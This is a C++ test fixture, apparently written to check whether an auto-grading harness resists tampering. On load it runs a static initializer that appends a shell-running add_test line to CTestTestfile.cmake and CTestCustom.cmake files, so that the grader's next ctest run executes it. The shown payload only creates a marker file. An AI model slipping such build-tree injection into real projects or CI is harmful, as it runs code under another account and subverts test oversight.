
// Attack (grader fixture, class b; graded with --no-policy): while the tests run, append a test to
// the build folder's CTestTestfile.cmake (the next lab's ctest, run by the grader, would run it
// as the grader) and drop a CTestCustom.cmake beside it; the marker file proves it ran.
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cstring>
inline const int parlab_attack_build_tree = [] {
  const char* line = "add_test(pwned /bin/sh -c \"touch /tmp/parlab-attack-build-tree-PWNED\")\n";
  const char* files[] = {"CTestTestfile.cmake", "../../CTestTestfile.cmake", "../../CTestCustom.cmake"};
  for (const char* file : files) {
    const long fd = syscall(SYS_openat, AT_FDCWD, file, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd >= 0) {
      syscall(SYS_write, fd, line, std::strlen(line));
    }
  }
  return 0;
}();
